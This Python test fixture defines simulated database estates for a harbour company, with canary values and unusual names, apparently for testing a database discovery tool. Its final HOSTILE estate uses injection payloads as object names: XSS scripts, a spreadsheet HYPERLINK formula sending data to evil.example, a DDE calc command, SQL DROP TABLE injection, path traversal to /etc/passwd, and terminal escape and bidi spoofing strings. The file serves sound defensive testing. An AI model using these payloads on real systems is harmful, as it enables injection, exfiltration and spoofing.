"""The plan: databases of a harbour company, as three engines hold them."""

from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from itertools import product

type Columns = dict[str, str]
"""Name → one of `int`, `text`, `date`, `time`, `money`, `bool`. The first is the key."""

_ENTITIES: dict[str, Columns] = {
    "bookings": {"id": "int", "reference": "text", "starts_at": "time", "ends_at": "time", "status": "text"},
    "invoices": {"id": "int", "number": "text", "issued_on": "date", "net_gbp": "money", "paid": "bool"},
    "contacts": {"id": "int", "full_name": "text", "email": "text", "phone": "text", "postcode": "text"},
    "staff": {"id": "int", "full_name": "text", "hired_on": "date", "national_id": "text", "iban": "text"},
    "assets": {"id": "int", "tag": "text", "description": "text", "bought_on": "date", "value_gbp": "money"},
    "inspections": {"id": "int", "asset_id": "int", "inspected_on": "date", "passed": "bool", "note": "text"},
    "incidents": {"id": "int", "reported_at": "time", "severity": "text", "summary": "text"},
    "contracts": {"id": "int", "partner": "text", "starts_on": "date", "amount_gbp": "money"},
    "documents": {"id": "int", "title": "text", "author": "text", "created_at": "time", "sha256": "text"},
    "readings": {"id": "int", "sensor": "text", "taken_at": "time", "value": "money"},
    "shifts": {"id": "int", "staff_id": "int", "starts_at": "time", "ends_at": "time"},
    "tariffs": {"code": "text", "description": "text", "price_gbp": "money", "valid_from": "date"},
}
_REFERENCES = {"inspections": ("asset_id", "assets"), "shifts": ("staff_id", "staff")}
_VIEWS = {
    "open_invoices": ("invoices", ("id", "number", "net_gbp")),
    "night_shifts": ("shifts", ("id", "staff_id")),
}


@dataclass(frozen=True, slots=True)
class Table:
    """`kind` is `table`, `view` or `partitioned` (one partition a month); a view is made `of` another."""

    name: str
    columns: Columns
    kind: str = "table"
    of: str = ""
    reference: tuple[str, str] | None = None
    """Column and the table it refers to."""
    rows: int = 12


@dataclass(frozen=True, slots=True)
class Schema:
    """For engines without schemas, the tables of a database; its name is empty then."""

    name: str
    tables: tuple[Table, ...] = ()


@dataclass(frozen=True, slots=True)
class Database:
    """`closed` to the login of the credential store, or open to it."""

    name: str
    schemas: tuple[Schema, ...] = ()
    closed: bool = False
    system: bool = False
    """The engine makes it; it is a fact and nothing is seeded."""

    def tables(self) -> Iterator[tuple[Schema, Table]]:
        for schema in self.schemas:
            yield from product((schema,), schema.tables)


@dataclass(frozen=True, slots=True)
class Estate:
    """All databases of one server. `canary` is a value in every text column that must never leave it."""

    canary: str
    databases: tuple[Database, ...] = field(default_factory=tuple)


def _department(name: str, *more: Table) -> Schema:
    tables = [
        Table(entity, columns, reference=_REFERENCES.get(entity)) for entity, columns in _ENTITIES.items()
    ]
    views = [
        Table(view, {name: _ENTITIES[of][name] for name in columns}, kind="view", of=of)
        for view, (of, columns) in _VIEWS.items()
    ]
    return Schema(name, (*tables, *views, *more))


def _departments(names: Iterable[str]) -> tuple[Schema, ...]:
    return tuple(map(_department, names))


_ODD = (
    Table("Größen und Maße", {"Größe Nr.": "int", "Länge (m)": "money", "Bemerkung": "text"}),
    Table("Preis 50%/100%", {"id": "int", "Preis €": "money"}),
    Table("select", {"from": "int", "where": "text"}),
)
"""Names with blanks, letters beyond ASCII, characters that keys escape, and reserved words."""
_EVENTS = Table(
    "events", {"id": "int", "source": "text", "happened_at": "time", "detail": "text"}, rows=100_000
)
_BY_MONTH = Table(
    "meter_values", {"id": "int", "measured_on": "date", "kwh": "money"}, kind="partitioned", rows=1200
)

POSTGRESQL = Estate(
    canary="CANARY-postgres-large-71d2e8",
    databases=(
        Database("postgres", system=True),
        Database("harbour", _departments(("berths", "pilots", "customs", "tugs", "dredging"))),
        Database("logistics", _departments(("public", "rail", "road", "cold_store"))),
        Database("utilities", _departments(("water", "power", "waste"))),
        Database("Kundendienst Süd", (_department("Öffentliche Aufträge", *_ODD), _department("Verträge"))),
        Database("telemetry", (Schema("public", (_EVENTS, _BY_MONTH)),)),
        Database("archive_2019"),
        Database("archive_2020"),
        Database("board", (Schema("public", (Table("minutes", _ENTITIES["documents"]),)),), closed=True),
    ),
)
MARIADB = Estate(
    canary="CANARY-mariadb-large-c40b19",
    databases=(
        *(Database(name, (_department(""),)) for name in ("erp", "crm", "wiki", "payroll", "web shop")),
        Database("größen", (_department("", *_ODD),)),
        Database("telemetry", (Schema("", (_EVENTS, _BY_MONTH)),)),
        Database("archive_2019"),
    ),
)
MONGODB = Estate(
    canary="CANARY-mongodb-large-9e5a37",
    databases=tuple(
        Database(
            name,
            (Schema("", tuple(Table(entity, columns) for entity, columns in _ENTITIES.items()) + more),),
        )
        for name, more in (
            ("catalog_gb", ()),
            # Its parent's health check counts these six.
            ("catalog", (Table("products", {"sku": "int", "name": "text"}, rows=6),)),
            ("catalog_de", (Table("masse_2025", {"Größe": "int", "Länge (m)": "money"}),)),
            ("content", (Table("old_pages", {"slug": "text", "body": "text"}),)),
            ("telemetry", (Table("alerts", {"sensor": "text", "raised_at": "time"}, rows=2000),)),
        )
    ),
)
_HOSTILE_COLUMNS: Columns = {
    "id": "int",
    "<img src=x onerror=alert(document.domain)>": "text",
    "=1+1": "text",
    "\u202egnp.tnemtnioppa": "text",
}
HOSTILE = Estate(
    canary="CANARY-hostile-database-0fd3b6",
    databases=(
        Database("postgres", system=True),
        Database(
            "<script>alert(1)</script>",
            (
                Schema(
                    "public",
                    tuple(
                        Table(name, _HOSTILE_COLUMNS)
                        for name in (
                            "<script>alert('table')</script>",
                            '=HYPERLINK("http://evil.example/?x="&A1;"open")',
                            "@SUM(1+1)*cmd|' /C calc'!A0",
                            "\x1b[2J\x1b[1;31mERASED\x1b[0m",
                            "\u202ecod.yrotnevni",
                            "two\r\nlines",
                            "'); DROP TABLE dryrun_discoveries; --",
                            "{{ 7 * 7 }} ${7*7} %s %n",
                            "../../../../etc/passwd",
                            "| a | `b` | [c](javascript:alert(1)) |",
                        )
                    ),
                ),
                Schema(
                    "&lt;b&gt; \u2066\u200b",
                    (Table("x\x7f\x08\x08y", _HOSTILE_COLUMNS | {"\x1b]0;owned\x07": "text"}),),
                ),
            ),
        ),
    ),
)
"""Names that are code for whoever shows them without care: pages, terminals, spreadsheets, SQL, Markdown."""
